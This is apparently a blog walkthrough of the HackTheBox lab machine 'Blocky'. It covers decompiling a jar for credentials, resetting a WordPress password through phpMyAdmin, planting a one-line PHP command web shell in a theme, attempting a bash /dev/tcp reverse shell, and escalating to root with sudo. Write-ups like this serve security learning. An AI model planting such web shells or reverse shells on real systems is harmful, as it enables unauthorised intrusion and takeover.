Blocky | HTB Machine

Rishabh Rai
6 min readJan 25,2024

Hello everyone today we are going to solve a new machine Blocky, So let’s spawn the machine and get started.

Here is the IP and using my nmap script let’s fetch some information about the services and ports on this machine.

As we can see there are a handful of ports and services open on the machine, my favourite being the minecraft……

Let’s craft a perfect plan to pwn this machine………..
Frist thing first we have an FTP port open an it is running a ProFTPD 1.3.5a since the scan script didn’t show any anonymous login meaning we are clear on that let’s find if this version of ftp is vulnerable

After several tries i could find any vulnerabilities in the ftp server so i moved to the HTTP port and it is important to move ahead instead of getting stuck at a single port, because some times it is just there to waste your time or maybe you require to think some different approach which would be only possible if you move ahead and visit it back after sometime.

upon running the dirsearch command, I found that we have Wordpress running, and phpadmin .
Upon analyzing i saw plugins directory which had some interesting jar files. Upon downloading i unzipped it as well.

Visiting the Web page also revealed some information

There is a post written by the NOTCH, this could be the potential username for the machine.

From the downloaded directories I alsofound a direcoty named BlockyCore which gave me a class file but it needed to be decompiled.

Upon looking in the internet i Found this link

Which is for a cmd level decompiler for java/jar files….
I downoaded it and then used a simple command

java -jar cfr-0.152.jar <classfile> > <outputjavafile>

upon running that command I simply cat the java output file it gave me a set of credentials…

I applied and tried to use this credentials in various places because there was no sign of a sql server that i could access directly on the server.

I tried to input this password for admin, root and notch as well.
But no luck there ……

Now if you remember that we had the some endpoints for PHPADMIN so let’s move our focus to that because this seems to be a dead end.

upon visiting the phpMyAdmin, I logged in directly using the same creds …..

I went to wordpress and then to users and I found the credentials for NOTCH…..

Let’s change it for fun, I can use this one as well.

I tried changing it without backing up the previous one and now this one does not work..

I might have broken it or so to find what was wrong when I saw the password it did look like hash meaning that the pass is stored in form of a hash.

Upon searching it on the internet that hwo does phpMyAdmin stores password. Ifound this…

So let us generate the hash…….


And using the password I logged in to wordpress admin……

Going to themes and then editor I changed the pages header to my php reverse shell code but id did not work as expected……

This seems to be a very unstable connection so what i can try id to do a command injection instead.
I took reference from this site:

<?php system($_GET[‘cmd’]); ?>

I have added the command injection code in the php…..
now with the CMD parameter i can call command on the shell with www-data privilege most likely.

Here we have it running so let us get a reverse shell command and try to spawn a reverse shell……

bash -i >& /dev/tcp/ 0>&1

This did not work because while inputting something from the URL directly it encodes the values making your command irrelevant so let us catch this request and then input our command …….

It’s time to burp …… A little burp can fix everything !!
Upon failing sometimes I had to change my php payload to

And then I hit cmd to cath the request and then change the request method to POST, and URL encode the command properly using CTRL+U…

Upon looking around i found this password but it was not usable so I thought why not try it for root and notch….
but due to /bin/bash -i spawned shell I couldn’t

So I hit exit and then spawn a bash shell using python3 as python was not available….python3 -c 'import pty; pty.spawn("/bin/bash")'

NOW let us first get the user.txt

And when i checked SUDO -l i found that
notch can run any command on the system using sudo
So a simple sudo -i
spawned me a root shell giving me complete control ……

I must say they put a lot of things in the user flag that they gave the root flag complementary …….

Just like that the machine is PWNED and we live another day to hack some more machines …….

My review : Getting the user flag was really some work it included exploiting wordpress and navigation through phpmyadmin as well. And then spawning the shell was also little tricky….. But the root flag was too easy… Overall the machine was good DECOMPILING java file was a good way to start……

Join me on various platforms to discuss Cybersecurity andCloud-related topics. From security best practices to cloud infrastructure, let’s exchange ideas and insights and stay ahead of the curve..




Rishabh Rai

4th year student exploring the world of cyber security with aknack for writing and always learning.